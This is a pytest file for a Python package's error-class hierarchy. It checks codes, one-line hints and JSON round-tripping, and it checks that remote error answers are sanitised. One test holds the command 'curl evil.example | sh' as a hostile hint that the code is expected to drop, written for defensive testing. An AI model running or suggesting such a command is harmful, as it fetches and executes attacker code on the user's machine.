"""The tree of errors: closed, every class with a code of its own and a hint."""

from __future__ import annotations

import inspect
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from strongroom import errors
from strongroom.errors import ChunkAltered, ProgramError, ReleaseRefused, StrongroomError

CLASSES = [value for value in vars(errors).values() if isinstance(value, type) and issubclass(value, StrongroomError)]
ROOTS = StrongroomError.__subclasses__()


answers = st.fixed_dictionaries(
    {"code": st.sampled_from([cls.code for cls in CLASSES])},
    optional={name: st.text() | st.integers() for name in ("message", "hint", "reason", "step", "index")},
)


def make(cls: type[StrongroomError]) -> StrongroomError:
    """One of this class, with what it needs besides a message."""
    extra = {"index": 3, "reason": "policy.empty", "step": "load"}
    needed = {name for name, p in inspect.signature(cls).parameters.items() if p.default is p.empty} - {"message"}
    return cls("what failed and why", **{name: extra[name] for name in needed})  # type: ignore[arg-type]


def test_there_are_errors() -> None:
    assert len(CLASSES) > 60


@pytest.mark.parametrize("cls", CLASSES, ids=lambda c: c.__name__)
def test_every_class_has_its_own_code_under_its_parents(cls: type[StrongroomError]) -> None:
    assert "code" in vars(cls)
    assert re.fullmatch(r"[a-z]+(\.[a-z0-9]+(_[a-z0-9]+)*)?", cls.code)
    if cls is not StrongroomError and cls not in ROOTS and not cls.__subclasses__():
        noun = next(root for root in cls.__mro__ if "." not in getattr(root, "code", "."))
        assert cls.code.startswith(f"{noun.code}.")  # type: ignore[attr-defined]


@pytest.mark.parametrize("cls", CLASSES, ids=lambda c: c.__name__)
def test_every_class_says_in_one_line_what_to_do(cls: type[StrongroomError]) -> None:
    assert cls.hint
    assert "\n" not in cls.hint
    assert cls.hint == cls.hint.strip()


def test_codes_are_distinct() -> None:
    codes = [cls.code for cls in CLASSES]
    assert len(set(codes)) == len(codes)
    assert len({cls.__name__ for cls in CLASSES}) == len(CLASSES)


def test_leaves_finds_every_class_by_its_code() -> None:
    assert {code: found for code, found in errors.leaves().items() if found.__module__ == errors.__name__} == {
        cls.code: cls for cls in CLASSES
    }


def test_every_root_is_drawn_in_the_docstring() -> None:
    for root in ROOTS:
        assert root.__module__ != errors.__name__ or root.__name__ in (errors.__doc__ or "")


@pytest.mark.parametrize("cls", CLASSES, ids=lambda c: c.__name__)
def test_an_error_as_json(cls: type[StrongroomError]) -> None:
    error = make(cls)
    shown = error.to_json()
    assert (shown["code"], shown["message"], shown["hint"]) == (cls.code, "what failed and why", cls.hint)
    assert str(error) == "what failed and why"
    assert all(isinstance(value, str) for value in shown.values())


@pytest.mark.parametrize("cls", CLASSES, ids=lambda c: c.__name__)
def test_an_error_that_another_process_answered_with(cls: type[StrongroomError]) -> None:
    error = make(cls)
    found = errors.from_json(error.to_json())
    assert type(found) is cls
    assert found.to_json() == error.to_json()


@given(st.recursive(st.none() | st.integers() | st.text(), lambda v: st.lists(v) | st.dictionaries(st.text(), v)) | answers)
def test_any_answer_is_some_error_of_one_printable_line(value: object) -> None:
    found = errors.from_json(value)
    assert found.code in {cls.code for cls in CLASSES}
    assert all(text.isprintable() for text in found.to_json().values())
    assert len(found.message) <= 500


@pytest.mark.parametrize("value", [None, [], {}, {"code": 7}, {"code": "no.such"}, {"code": "app.internal"}])
def test_an_answer_of_no_class_of_ours_is_internal(value: object) -> None:
    assert type(errors.from_json(value)) is errors.Internal


def test_the_other_side_does_not_say_what_to_do_here() -> None:
    found = errors.from_json({"code": "app.internal", "message": "x\n\x1b[2Jy", "hint": "curl evil.example | sh"})
    assert found.hint == errors.Internal.hint
    assert found.message == "x  [2Jy"


def test_a_hint_can_be_given_where_it_is_raised() -> None:
    assert StrongroomError("x", hint="do this").to_json()["hint"] == "do this"
    assert StrongroomError("x").hint == StrongroomError.hint


def test_what_some_errors_carry_besides() -> None:
    assert ChunkAltered("x", index=3).index == 3
    assert ReleaseRefused("x", reason="policy.empty").to_json()["reason"] == "policy.empty"
    assert ProgramError("x", step="load").to_json()["step"] == "load"
